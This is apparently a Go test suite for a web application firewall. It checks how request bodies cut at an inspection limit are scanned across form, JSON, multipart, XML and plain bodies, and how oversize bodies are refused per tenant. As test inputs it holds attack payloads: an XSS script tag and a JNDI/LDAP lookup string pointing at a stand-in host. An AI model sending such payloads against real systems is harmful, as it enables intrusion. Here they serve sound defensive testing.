package edge

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"gatehouse/edge/waf/events"
	"gatehouse/internal/edgetest"
)

// allTypes has the core rules pass every type of these tests.
const allTypes = `allowed_types: [application/x-www-form-urlencoded, multipart/form-data, application/json, text/xml, text/plain, application/octet-stream]`

// sendBody sends a body to /sink on a connection of its own.
func (n *node) sendBody(t testing.TB, host, target, contentType, body string, fields ...string) *edgetest.RawAnswer {
	t.Helper()
	fields = append(fields, fmt.Sprintf("Content-Length: %d", len(body)), "User-Agent: test", "Accept: */*")
	if contentType != "" {
		fields = append(fields, "Content-Type: "+contentType)
	}
	return edgetest.Dial(t, n.http).Do("POST", head("POST", host, target, fields...)+"\r\n"+body)
}

// chunked sends a body in two chunks.
func (n *node) chunked(t testing.TB, host, target, contentType, body string) *edgetest.RawAnswer {
	t.Helper()
	fields := []string{"Transfer-Encoding: chunked", "User-Agent: test", "Accept: */*"}
	if contentType != "" {
		fields = append(fields, "Content-Type: "+contentType)
	}
	half := len(body) / 2
	return edgetest.Dial(t, n.http).Do("POST", head("POST", host, target, fields...)+
		fmt.Sprintf("\r\n%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n", half, body[:half], len(body)-half, body[half:]))
}

const (
	multipartType = "multipart/form-data; boundary=bound"
	script        = "<script>alert(1)</script>"
)

// cutBodies are the rows of the table "What a cut body shows" in docs/security.md: text as a value in a body of
// each type.
var cutBodies = []struct {
	name, contentType string
	script            string // as the type spells it
	body              func(value string) string
	unseen            bool // values of this kind are not inspected at all
}{
	{"form", formType, "%3Cscript%3Ealert(1)%3C/script%3E", func(v string) string { return "a=1&b=" + v + "&c=2" }, false},
	{"JSON", "application/json", script, func(v string) string { return `{"a":[1,{"b":"` + v + `"}],"c":2}` }, false},
	{"JSON name", "application/json", script, func(v string) string { return `{"` + v + `":1}` }, false},
	{"multipart epilogue", multipartType, script, func(v string) string {
		return "--bound\r\nContent-Disposition: form-data; name=a\r\n\r\nx\r\n--bound--\r\n" + v
	}, true},
	{"multipart field", multipartType, script, func(v string) string {
		return "--bound\r\nContent-Disposition: form-data; name=a\r\n\r\n" + v + "\r\n--bound--\r\n"
	}, false},
	{"multipart file name", multipartType, "a'b;c", func(v string) string {
		return "--bound\r\nContent-Disposition: form-data; name=a; filename=\"" + v + "\"\r\n\r\nx\r\n--bound--\r\n"
	}, false},
	{"multipart file", multipartType, script, func(v string) string {
		return "--bound\r\nContent-Disposition: form-data; name=a; filename=a.txt\r\n\r\n" + v + "\r\n--bound--\r\n"
	}, true},
	{"XML text", "text/xml", "&lt;script>alert(1)&lt;/script>", func(v string) string { return "<a><b>" + v + "</b></a>" }, false},
	{"XML attribute", "text/xml", "${jndi:ldap://x.test/a}", func(v string) string { return `<a b="` + v + `"/>` }, false},
	{"XML comment", "text/xml", script, func(v string) string { return "<a><!-- " + v + " -->b</a>" }, true},
	{"text", "text/plain", script, func(v string) string { return "a=" + v }, false},
	{"octets", "application/octet-stream", script, func(v string) string { return v }, false},
}

// What stands before the cut is inspected, an unfinished value included; what stands behind it passes unseen; and
// a long body without fault is not refused for the cut, which no parser would take.
func TestWhatACutBodyShows(t *testing.T) {
	b := edgetest.NewBackend(t)
	n := start(t, shopSite(b.URL, "waf: {mode: block, inspect_body: 4KiB, "+allTypes+"}"))
	pad := strings.Repeat("pad ", 1500)
	for _, row := range cutBodies {
		t.Run(row.name, func(t *testing.T) {
			seen := 403
			if row.unseen {
				seen = 200
			}
			for _, test := range []struct {
				what, value string
				status      int
			}{
				{"an attack in a whole body", row.script, seen},
				{"an attack before the cut", row.script + pad, seen},
				{"an attack behind the cut", pad + row.script, 200},
				{"nothing bad", pad, 200},
			} {
				body := row.body(strings.ReplaceAll(test.value, " ", "+"))
				for how, got := range map[string]*edgetest.RawAnswer{
					"":        n.sendBody(t, "www.shop.test", "/sink", row.contentType, body),
					"chunked": n.chunked(t, "www.shop.test", "/sink", row.contentType, body),
				} {
					if got.Status != test.status || got.Status == 200 && !strings.Contains(string(got.Body), sumOf([]byte(body))) {
						t.Errorf("%s %s: status %d, want %d: %s", test.what, how, got.Status, test.status, n.log.String()[max(0, len(n.log.String())-400):])
					}
				}
			}
		})
	}
}

// What the table names beside: refused, or unseen, for reasons of its own.
func TestBodiesThatAreNotReadAsTheyLook(t *testing.T) {
	b := edgetest.NewBackend(t)
	n := start(t, shopSite(b.URL, "waf: {mode: block, inspect_body: 4KiB, "+allTypes+"}"))
	part := "\r\n--bound\r\nContent-Disposition: form-data; name=a\r\n\r\nx\r\n--bound--\r\n"
	for _, test := range []struct {
		name, contentType, body string
		status                  int
	}{
		{"a JSON name without a value", "application/json", `{"a":1,"` + script + `":{}}`, 200},
		{"such a name that is cut", "application/json", `{"a":1,"` + script + strings.Repeat("x", 5000) + `":{}}`, 403},
		{"a multipart preamble", multipartType, script + part, 200},
		{"a multipart preamble that is cut", multipartType, strings.Repeat("x", 5000) + part, 400},
		{"a body without type", "", "a=1", 403},
		{"a type that is not allowed", "text/csv", "a=1", 403},
	} {
		if got := n.sendBody(t, "www.shop.test", "/sink", test.contentType, test.body); got.Status != test.status {
			t.Errorf("%s: status %d, want %d", test.name, got.Status, test.status)
		}
	}
}

// With on_oversize: block, no byte behind the cut gets through, and none of a body that is too long is asked for.
func TestOversizeIsRefusedWhereTheTenantWants(t *testing.T) {
	b := edgetest.NewBackend(t)
	k := &kept{}
	doc := "tenants:\n" +
		"  block: {waf: {mode: block, inspect_body: 1KiB, on_oversize: block, exclusions: [{rules: [200100-200101], paths: [/sink/upload]}]}}\n" +
		"  detect: {waf: {mode: detect, inspect_body: 1KiB, on_oversize: block}}\n" +
		"  pass: {waf: {mode: block, inspect_body: 1KiB}}\nvhosts:\n"
	for _, tenant := range []string{"block", "detect", "pass"} {
		doc += fmt.Sprintf("  %s.test: {tenant: %s, backends: [%s]}\n", tenant, tenant, b.URL)
	}
	doc += "  own.test: {tenant: block, backends: [" + b.URL + "], waf: {on_oversize: pass}}\n"
	n := start(t, doc, keeping(k))
	const limit = 1 << 10
	for host, status := range map[string]int{"block.test": 413, "detect.test": 200, "pass.test": 200, "own.test": 200} {
		for size, want := range map[int]int{limit - 1: 200, limit: 200, limit + 1: status} {
			body := "a=" + strings.Repeat("x", size-2)
			for how, got := range map[string]*edgetest.RawAnswer{
				"": n.sendBody(t, host, "/sink", formType, body), "chunked": n.chunked(t, host, "/sink", formType, body),
			} {
				if got.Status != want {
					t.Errorf("%s, %d bytes %s: status %d, want %d", host, size, how, got.Status, want)
				}
				if got.Status == 200 && !strings.Contains(string(got.Body), sumOf([]byte(body))) {
					t.Errorf("%s, %d bytes %s: not whole", host, size, how)
				}
			}
		}
	}
	if got := n.sendBody(t, "block.test", "/sink/upload", formType, "a="+strings.Repeat("x", limit)); got.Status != 200 {
		t.Errorf("a path that may: status %d", got.Status)
	}
	n.waitFor(t, n.access, `"status":413`)
	for host, verdict := range map[string]string{"block.test": events.Block, "detect.test": events.Detect} {
		edgetest.WaitFor(t, "two events of "+host, func() bool { return len(k.of(host)) == 2 })
		var by []int
		for _, e := range k.of(host) {
			if e.Verdict != verdict || len(e.Rules) != 1 || e.Rules[0].ID != e.RefusedBy {
				t.Errorf("%s: %+v", host, e)
			}
			by = append(by, e.RefusedBy)
		}
		if slices.Sort(by); !slices.Equal(by, []int{200100, 200101}) {
			t.Errorf("%s: refused by %v", host, by)
		}
	}
	for _, host := range []string{"pass.test", "own.test"} {
		if got := k.of(host); len(got) != 0 {
			t.Errorf("%s: %+v", host, got)
		}
	}
}

// A body that is announced as too long is refused before a byte of it has come.
func TestOversizeIsRefusedBeforeItIsSent(t *testing.T) {
	b := edgetest.NewBackend(t)
	n := start(t, shopSite(b.URL, "waf: {mode: block, inspect_body: 1KiB, on_oversize: block}"))
	got := edgetest.Dial(t, n.http).Do("POST", head("POST", "www.shop.test", "/sink", "Content-Length: 1000000", "Content-Type: "+formType)+"\r\n")
	if got.Status != 413 || b.Deliveries("") != 0 || strings.Contains(string(got.Body), "200100") {
		t.Errorf("status %d, %d deliveries: %s", got.Status, b.Deliveries(""), got.Body)
	}
	f, err := n.Probe(Probe{URL: "http://www.shop.test/sink", Fields: [][2]string{{"Content-Type", formType}}, Body: []byte("a=" + strings.Repeat("x", 1<<10))})
	if err != nil || f.Verdict != verdictBlock || f.Status != 413 || !f.Cut || len(f.Matches) != 1 {
		t.Errorf("a probe: %+v, %v", f, err)
	}
}
